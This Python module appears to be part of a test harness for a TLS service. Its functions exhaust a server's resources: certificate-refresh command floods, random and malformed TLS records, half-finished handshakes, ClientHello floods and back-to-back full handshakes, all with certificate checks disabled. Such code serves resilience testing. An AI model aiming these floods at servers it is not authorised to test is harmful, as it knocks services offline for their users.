"""Attacks on TLS."""

import contextlib
import os
import socket
import ssl
import time

from harness.attacks.target import DRIP_S, MIB, Crowd, attack


@attack
def tls_refresh_certs(target):
    """Has the files of certificates read, again and again."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((target.host, target.port)) as plain, context.wrap_socket(plain) as one:
        while True:
            one.sendall(b"refresh_certs\r\n" * 100)
            replies = b""
            while replies.count(b"\n") < 100:
                replies += one.recv(1 << 16)
            yield


@attack
def tls_garbage(target):
    """Random bytes where TLS is spoken, and records that are none."""
    hello = client_hello()
    record = b"\x16\x03\x01\xff\xff" + os.urandom(65_535)
    crowds = [
        Crowd(target, 5, bytes_, reads=True)
        for bytes_ in (os.urandom(MIB), record, hello[: len(hello) // 2] + os.urandom(MIB), hello + record)
    ]
    while True:
        for crowd in crowds:
            crowd.turn()
        yield


@attack
def tls_half_handshakes(target):
    """Handshakes that stop in the middle."""
    hello = client_hello()
    held = [target.connect() for _ in range(200)]
    for number, one in enumerate(held):
        one.send(hello[: len(hello) >> number % 3])
    while True:
        yield
        time.sleep(DRIP_S)


@attack
def tls_hellos(target):
    """Hellos on many connections at once, again and again; nobody goes on with the handshake."""
    hello = client_hello()
    while True:
        held = []
        for _ in range(200):
            with contextlib.suppress(OSError):
                held.append(target.connect())
                held[-1].send(hello)
        yield
        time.sleep(DRIP_S)
        for one in held:
            one.close()


@attack
def tls_handshakes(target):
    """One whole handshake after the other."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    while True:
        with socket.create_connection((target.host, target.port)) as plain, context.wrap_socket(plain) as one:
            one.sendall(b"mn\r\n")
            assert one.recv(64)
        yield


def client_hello():
    """Returns the first bytes of a handshake."""
    sent = ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), sent).do_handshake()
    return sent.read()
